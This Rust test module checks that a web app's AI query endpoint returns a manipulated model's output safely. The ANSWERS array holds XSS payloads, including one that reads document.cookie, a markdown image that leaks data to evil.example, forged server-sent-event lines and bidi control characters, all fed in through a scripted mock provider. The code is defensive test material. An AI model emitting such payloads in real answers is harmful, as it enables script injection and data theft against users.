//! What a model answers that somebody has talked round: markup, addresses that
//! tell tales, and words that would be more than words on the way to a browser.
//! The browser's own half, which makes elements of it and never HTML, is tried
//! in the web app's tests.

use std::time::Duration;

use cranedesk_platform::testing::{Scripted, ScriptedServer, openai};
use reqwest::Method;
use serde_json::Value;

use crate::case::{By, FORM, form};
use crate::house::House;

/// What the model says.
const ANSWERS: [&str; 14] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</textarea></script><svg onload=alert(1)>",
    "[press](javascript:alert(document.cookie))",
    "![x](https://evil.example/?cranes=Liebherr)",
    "<iframe src=https://evil.example></iframe>",
    "<style>*{display:none}</style>",
    "\n\nevent: answer\ndata: {\"response\":\"forged\"}\n\n",
    "\r\n\r\nevent: error\r\ndata: {\"message\":\"forged\"}\r\n\r\n",
    "data: [DONE]\n\nid: 7\nretry: 1\n",
    "a\u{0}b\u{7}c\u{1b}[31md",
    "\u{202e}txet\u{2066}\u{e0041}",
    "\u{2028}\u{2029}\u{feff}",
    "{\"response\":\"forged\",\"sources\":[{\"url\":\"https://evil.example\"}]}",
];

pub(crate) fn count() -> usize {
    2 * ANSWERS.len()
}

/// Each answer, whole and as it streams: it arrives as one text, in data that
/// no browser takes for a page, and nothing in it becomes an event of its own.
pub(crate) async fn wrong() -> Vec<String> {
    let provider = ScriptedServer::start([]).await;
    let house = House::with_settings(&[
        ("CRANEDESK_AI_PROVIDER", "openai"),
        ("CRANEDESK_AI_URL", &provider.url("/v1")),
        ("CRANEDESK_AI_MODEL", "usual"),
    ])
    .await;
    let mut wrong = Vec::new();
    for answer in ANSWERS {
        for accept in ["application/json", "text/event-stream"] {
            provider.then([Scripted::Events(openai::says(&[answer]))]);
            if let Err(why) = ask(&house, answer, accept).await {
                wrong.push(format!("a model's answer {answer:?} as {accept}: {why}"));
            }
        }
    }
    house.is_the_same_process();
    wrong
}

async fn ask(house: &House, said: &str, accept: &str) -> Result<(), String> {
    let question = form(&[(b"name=\"prompt\"", b"What do you make of the weather?")]);
    let request = house
        .request(By::Stranger, Method::POST, "/api/ai/query")
        .header("content-type", FORM)
        .header("accept", accept)
        .timeout(Duration::from_mins(1))
        .body(question);
    let answer = request.send().await.map_err(|error| error.to_string())?;
    let header = |name: &str| {
        let value = answer.headers().get(name);
        value
            .map_or("", |value| value.to_str().unwrap_or("odd"))
            .to_owned()
    };
    let (status, kind) = (answer.status().as_u16(), header("content-type"));
    let (guard, policy) = (
        header("x-content-type-options"),
        header("content-security-policy"),
    );
    let text = answer.text().await.map_err(|error| error.to_string())?;
    if status != 200 || !kind.starts_with(accept) || guard != "nosniff" {
        return Err(format!("{status} {kind} {guard}: {text}"));
    }
    if !policy.contains("script-src 'self'") {
        return Err(format!("under the policy {policy:?}"));
    }
    let whole = match accept {
        "application/json" => text.clone(),
        _ => only_answer(&text)?,
    };
    let whole: Value = serde_json::from_str(&whole).map_err(|error| format!("{error}: {text}"))?;
    let shown = whole["response"].as_str().unwrap_or_default();
    // It may be trimmed, or be followed by a note; it is never taken apart.
    match shown.contains(said.trim()) && whole["imageUrl"].is_null() {
        true => Ok(()),
        false => Err(text),
    }
}

/// The data of the one event that ends a stream.
fn only_answer(stream: &str) -> Result<String, String> {
    let lines = stream.lines().filter(|line| !line.is_empty());
    let mut answers = Vec::new();
    let mut is_answer = false;
    for line in lines {
        match line.split_once(": ") {
            Some(("event", name @ ("status" | "text" | "answer"))) => is_answer = name == "answer",
            Some(("data", data)) if is_answer => answers.push(data.to_owned()),
            Some(("data", _)) => {}
            _ if line.starts_with(':') => {}
            _ => return Err(format!("the line {line:?}")),
        }
    }
    match &answers[..] {
        [one] => Ok(one.clone()),
        _ => Err(format!("{} answers: {stream}", answers.len())),
    }
}
